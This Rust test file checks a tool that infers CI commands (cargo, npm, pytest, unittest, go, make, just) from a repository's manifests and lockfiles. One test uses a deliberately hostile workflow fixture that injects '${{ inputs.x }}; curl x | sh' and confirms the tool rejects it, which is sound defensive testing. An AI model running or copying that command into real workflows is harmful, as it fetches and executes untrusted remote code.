use super::*;

fn facts(files: &[(&str, &str)]) -> TreeFacts {
    let paths = files.iter().map(|(path, _)| (*path).to_owned()).collect();
    let wanted = wanted(&paths);
    let held = files.iter().filter(|(path, _)| wanted.iter().any(|want| want == path));
    TreeFacts { paths, contents: held.map(|(path, text)| ((*path).to_owned(), (*text).to_owned())).collect() }
}

fn proposed(files: &[(&str, &str)]) -> Vec<String> {
    let line = |check: Proposal| format!("{}: {}", check.name, check.definition.run);
    propose(&facts(files)).checks.into_iter().map(line).collect()
}

#[test]
fn cargo_is_locked_only_with_a_lockfile_and_linted_only_where_it_shows() {
    assert_eq!(proposed(&[("Cargo.toml", "[package]")]), ["test: cargo test"]);
    assert_eq!(
        proposed(&[
            ("Cargo.toml", "[workspace]\nmembers=['a']"),
            ("a/Cargo.toml", "[package]"),
            ("Cargo.lock", ""),
            ("clippy.toml", ""),
            ("rustfmt.toml", ""),
        ]),
        [
            "test: cargo test --workspace --locked",
            "lint: cargo clippy --workspace --locked --all-targets",
            "format: cargo fmt --all --check"
        ]
    );
    assert_eq!(
        proposed(&[
            ("Cargo.toml", "[package]"),
            (".config/nextest.toml", ""),
            (".github/workflows/ci.yml", "jobs:\n  a:\n    - run: cargo clippy --all-targets -- -D warnings\n"),
        ]),
        ["test: cargo nextest run", "lint: cargo clippy --all-targets -- -D warnings"]
    );
    let hostile = ".github/workflows/ci.yml";
    assert_eq!(
        proposed(&[("Cargo.toml", "[package]"), (hostile, "- run: cargo clippy ${{ inputs.x }}; curl x | sh\n")]),
        ["test: cargo test"]
    );
}

#[test]
fn npm_scripts_are_run_by_the_lockfiles_manager() {
    let scripts = r#"{"scripts":{"test":"vitest run","lint":"eslint .","type-check":"tsc --noEmit","build":"vite build"},
                      "devDependencies":{"vitest":"1"}}"#;
    for (lock, program) in [("package-lock.json", "npm"), ("pnpm-lock.yaml", "pnpm"), ("bun.lock", "bun")] {
        let test = if program == "npm" { "npm test".to_owned() } else { format!("{program} run test") };
        assert_eq!(
            proposed(&[("package.json", scripts), (lock, "")]),
            [
                format!("test: {test}"),
                format!("lint: {program} run lint"),
                format!("typecheck: {program} run type-check"),
                format!("build: {program} run build"),
            ]
        );
    }
    let named = scripts.replacen('{', r#"{"packageManager":"yarn@4.1.0","#, 1);
    assert_eq!(proposed(&[("package.json", &named), ("package-lock.json", "")])[0], "test: yarn run test");
    let both = propose(&facts(&[("package.json", scripts), ("yarn.lock", ""), ("package-lock.json", "")]));
    assert_eq!(both.setup[0].0, Run::Shell("yarn install --immutable".into()));
    assert!(both.notices[0].contains("several lockfiles (yarn.lock, package-lock.json): yarn was taken"));
}

#[test]
fn scripts_that_prove_nothing_are_not_proposed() {
    let package = r#"{"scripts":{"test":"echo \"Error: no test specified\" && exit 1","lint":"eslint . || true",
                      "build":"tsc --watch","typecheck":"echo skipped"}}"#;
    let found = propose(&facts(&[("package.json", package)]));
    assert!(found.checks.is_empty());
    assert_eq!(found.notices.len(), 3, "{:?}", found.notices);
}

#[test]
fn python_is_run_in_its_own_environment() {
    assert_eq!(proposed(&[("pytest.ini", "")]), ["test: python3 -m pytest"]);
    assert_eq!(proposed(&[("setup.cfg", "[tool:pytest]\n[mypy]\n")]), ["test: python3 -m pytest", "typecheck: mypy ."]);
    assert_eq!(
        proposed(&[("pyproject.toml", "[tool.pytest.ini_options]\n[tool.ruff]\n[tool.mypy]\n"), ("uv.lock", "")]),
        ["test: uv run --locked pytest", "lint: uv run --locked ruff check .", "typecheck: uv run --locked mypy ."]
    );
    assert_eq!(proposed(&[("tox.ini", "[testenv]\n")]), ["test: tox"]);
    assert_eq!(proposed(&[("pyproject.toml", "[project]\nname='a'\n")]), [""; 0]);
}

#[test]
fn unittest_starts_where_it_finds_the_tests() {
    let test = "import unittest\n\nclass T(unittest.TestCase):\n    pass\n";
    let run = |files: &[&str]| proposed(&files.iter().map(|path| (*path, test)).collect::<Vec<_>>());
    assert_eq!(run(&["tests/__init__.py", "tests/test_a.py"]), ["test: python3 -m unittest"]);
    assert_eq!(run(&["tests/test_a.py"]), ["test: python3 -m unittest discover -s tests"]);
    assert_eq!(run(&["test_a.py"]), ["test: python3 -m unittest"]);
    assert_eq!(
        run(&["tests/unit/__init__.py", "tests/unit/test_a.py"]),
        ["test: python3 -m unittest discover -s tests"]
    );
    assert_eq!(
        run(&["test_a.py", "my tests/test_b.py"]),
        ["test: python3 -m unittest && python3 -m unittest discover -s './my tests'"]
    );
    assert_eq!(run(&["fixtures/test_a.py", ".venv/test_a.py", "tests/test-a.py", "tests/a_test.py"]), [""; 0]);
    let more = |other: &'static str, text: &'static str| proposed(&[("tests/test_a.py", test), (other, text)]);
    assert_eq!(more("uv.lock", ""), ["test: uv run --locked python -m unittest discover -s tests"]);
    assert_eq!(
        proposed(&[("pyproject.toml", "[project]"), ("uv.lock", ""), ("test_a.py", "from unittest import TestCase")]),
        ["test: uv run --locked python -m unittest"]
    );
    assert_eq!(more("pytest.ini", ""), ["test: python3 -m pytest"]);
    assert_eq!(more("requirements.txt", "pytest\n"), ["test: python3 -m pytest"]);
    assert_eq!(more("tox.ini", "[testenv]\n"), ["test: tox"]);
    assert_eq!(more("manage.py", ""), [""; 0]);
    assert_eq!(more("tests/test_b.py", "import pytest\n"), [""; 0]);
    assert_eq!(proposed(&[("test_a.py", "import unittested\n# import unittest\n")]), [""; 0]);
    assert_eq!(
        proposed(&[("api/pyproject.toml", "[project]"), ("api/tests/test_a.py", test)]),
        ["api-test: cd api && python3 -m unittest discover -s tests"]
    );
}

#[test]
fn go_make_and_just_are_found() {
    assert_eq!(proposed(&[("go.mod", "module a")]), ["test: go test ./...", "lint: go vet ./..."]);
    let makefile = "test := 1\n.PHONY: check\ncheck lint: deps\n\ttrue\n";
    assert_eq!(proposed(&[("Makefile", makefile)]), ["check: make check", "lint: make lint"]);
    assert_eq!(proposed(&[("justfile", "test *ARGS:\n  x\n@lint:\n  y\n")]), ["test: just test", "lint: just lint"]);
    let both = [("go.mod", "module a"), ("Makefile", "test:\n\tgo test\ncheck:\n\tgo test\n")];
    assert_eq!(proposed(&both), ["test: go test ./...", "lint: go vet ./..."]);
}

#[test]
fn two_languages_at_the_top_get_names_of_their_own() {
    let package = r#"{"scripts":{"test":"jest"}}"#;
    assert_eq!(
        proposed(&[("Cargo.toml", "[package]"), ("package.json", package)]),
        ["rust-test: cargo test", "node-test: npm test"]
    );
}

#[test]
fn projects_below_the_top_are_found_where_the_top_has_none() {
    let package = r#"{"scripts":{"test":"jest"}}"#;
    assert_eq!(
        proposed(&[
            ("web app/package.json", package),
            ("web app/sub/package.json", package),
            ("services/api/go.mod", "module a"),
            ("node_modules/x/package.json", package),
            ("tests/fixtures/Cargo.toml", "[package]"),
            ("a/b/c/package.json", package),
        ]),
        [
            "web-app-test: cd './web app' && npm test",
            "services-api-test: cd services/api && go test ./...",
            "services-api-lint: cd services/api && go vet ./...",
        ]
    );
}

#[test]
fn broken_manifests_are_named_and_stop_nothing() {
    let found =
        propose(&facts(&[("Cargo.toml", "["), ("package.json", "[]"), ("pyproject.toml", "="), ("go.mod", "")]));
    assert_eq!(found.checks.len(), 2);
    assert_eq!(found.notices.len(), 3);
}

#[test]
fn every_proposal_says_why() {
    let found =
        propose(&facts(&[("Cargo.toml", "[lints.clippy]\nx=1"), ("package.json", r#"{"scripts":{"test":"jest"}}"#)]));
    let because: Vec<&str> = found.checks.iter().map(|check| check.because.as_str()).collect();
    assert_eq!(because, ["`Cargo.toml`", "clippy lints in `Cargo.toml`", "script `test` in `package.json`"]);
}
